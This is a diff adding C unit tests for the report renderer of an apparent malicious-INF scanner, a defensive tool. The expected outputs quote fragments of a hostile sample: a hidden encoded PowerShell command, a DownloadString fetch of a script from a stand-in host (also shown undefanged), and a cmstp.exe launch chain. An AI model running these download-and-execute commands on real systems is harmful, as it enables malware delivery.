@@ -1,0 +1,201 @@
+/* SPDX-License-Identifier: MIT */
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+
+#include <cmocka.h>
+
+#include "base/utf8.h"
+#include "fake_result.h"
+
+static const struct infscan_render_options plain = {0};
+
+static void has(const char *report, const char *part)
+{
+    if (!strstr(report, part)) {
+        fail_msg("'%s' is not in:\n%s", part, report);
+    }
+}
+
+static void has_not(const char *report, const char *part)
+{
+    if (strstr(report, part)) {
+        fail_msg("'%s' is in:\n%s", part, report);
+    }
+}
+
+/* The longest line but the first, which is never wrapped. */
+static size_t longest_line(const char *report)
+{
+    struct str rest = str_from(report);
+    struct str line;
+    size_t longest = 0;
+
+    str_next(&rest, '\n', &line);
+    while (str_next(&rest, '\n', &line)) {
+        size_t n = utf8_count(line);
+        longest = n > longest ? n : longest;
+    }
+    return longest;
+}
+
+static void first_line_says_it(void **state)
+{
+    char *report = fake_render(fake_malicious(), &plain);
+
+    (void)state;
+    assert_int_equal(
+        strncmp(report, "malicious   92  evil.inf  [partial]\n", 36), 0);
+    free(report);
+}
+
+static void quiet_is_one_line(void **state)
+{
+    struct infscan_render_options quiet = {.flags = INFSCAN_RENDER_QUIET};
+    char *report = fake_render(fake_malicious(), &quiet);
+
+    (void)state;
+    assert_string_equal(report, "malicious   92  evil.inf  [partial]\n");
+    free(report);
+    report = fake_render(fake_error(), &quiet);
+    assert_string_equal(
+        report, "error        -  gone.inf: No such file or directory\n");
+    free(report);
+}
+
+static void match_is_underlined(void **state)
+{
+    char *report = fake_render(fake_malicious(), &plain);
+
+    (void)state;
+    has(report, "      6 | powershell.exe -w hidden -enc SQBFAFgA\n"
+                "        |                ^~~~~~~~~\n");
+    has(report, ".DownloadString('hxxp://bad[.]example[.]invalid/a.ps1')\n"
+                "       ^~~~~~~~~~~~~~\n");
+    free(report);
+}
+
+static void story_is_told(void **state)
+{
+    char *report = fake_render(fake_malicious(), &plain);
+
+    (void)state;
+    has(report, "cmstp.exe /s FILE enters [DefaultInstall]\n");
+    has(report, "via [DefaultInstall] RunPreSetupCommands, line 4 > [Pre], "
+                "line 6\n");
+    has(report, "the same as cmstp\n");
+    has(report, "decoded 1, powershell.encoded-command:\n");
+    has(report, "not resolved: the variable is never set\n");
+    has(report, "Indicators\n  url           "
+                "hxxp://bad[.]example[.]invalid/a.ps1  (download), line 6\n");
+    has(report, "  file      C:\\Windows\\System32\\a.dll\n");
+    has(report, "  cmstp.exe > powershell.exe\n");
+    has(report, "the limit layers (32) was reached");
+    has_not(report, "INF0013");
+    has_not(report, "http://");
+    free(report);
+}
+
+static void verbose_shows_all(void **state)
+{
+    struct infscan_render_options verbose = {.flags = INFSCAN_RENDER_VERBOSE};
+    char *report = fake_render(fake_malicious(), &verbose);
+
+    (void)state;
+    has(report, "#1 write-registry: HKCU\\Software\\Example -> Run = 7\n");
+    has(report, "  INF0013  low       no Signature");
+    free(report);
+}
+
+static void addresses_stay_live_on_request(void **state)
+{
+    struct infscan_render_options live = {.flags = INFSCAN_RENDER_NO_DEFANG};
+    char *report = fake_render(fake_malicious(), &live);
+
+    (void)state;
+    has(report, "http://bad.example.invalid/a.ps1");
+    has_not(report, "hxxp");
+    free(report);
+}
+
+static void clean_says_what_it_means(void **state)
+{
+    char *report = fake_render(fake_clean(), &plain);
+
+    (void)state;
+    has(report, "clean        0  clean.inf\n");
+    has(report, "\"Clean\" speaks of this file's content");
+    has(report, "Windows would refuse this file: ERROR_WRONG_INF_STYLE, line "
+                "3.");
+    free(report);
+}
+
+static void lines_fit_the_width(void **state)
+{
+    static const unsigned widths[] = {30, 40, 80, 120};
+
+    (void)state;
+    for (size_t i = 0; i < sizeof widths / sizeof widths[0]; i++) {
+        struct infscan_render_options options = {
+            .flags = INFSCAN_RENDER_VERBOSE, .width = widths[i]};
+        char *report = fake_render(fake_malicious(), &options);
+        assert_in_range(longest_line(report), 0, widths[i]);
+        free(report);
+        report = fake_render(fake_hostile(), &options);
+        assert_in_range(longest_line(report), 0, widths[i]);
+        free(report);
+    }
+}
+
+static void nothing_steers_the_terminal(void **state)
+{
+    struct infscan_render_options options = {.flags = INFSCAN_RENDER_VERBOSE};
+    char *report = fake_render(fake_hostile(), &options);
+    struct str rest = str_from(report);
+
+    (void)state;
+    assert_true(utf8_is_valid(rest));
+    while (rest.len) {
+        uint32_t code;
+        size_t n = utf8_decode(rest, &code);
+        assert_true(code >= 0x20 || code == '\n');
+        assert_false(code >= 0x7F && code < 0xA0);
+        assert_false(utf8_is_invisible(code));
+        rest = str_sub(rest, n, rest.len);
+    }
+    free(report);
+}
+
+static void colour_only_when_asked(void **state)
+{
+    struct infscan_render_options color = {.flags = INFSCAN_RENDER_COLOR};
+    char *report = fake_render(fake_malicious(), &color);
+
+    (void)state;
+    has(report, "\x1b[1;31mmalicious \x1b[0m");
+    free(report);
+    report = fake_render(fake_malicious(), &plain);
+    has_not(report, "\x1b");
+    free(report);
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(first_line_says_it),
+        cmocka_unit_test(quiet_is_one_line),
+        cmocka_unit_test(match_is_underlined),
+        cmocka_unit_test(story_is_told),
+        cmocka_unit_test(verbose_shows_all),
+        cmocka_unit_test(addresses_stay_live_on_request),
+        cmocka_unit_test(clean_says_what_it_means),
+        cmocka_unit_test(lines_fit_the_width),
+        cmocka_unit_test(nothing_steers_the_terminal),
+        cmocka_unit_test(colour_only_when_asked),
+    };
+    return cmocka_run_group_tests(tests, NULL, NULL);
+}
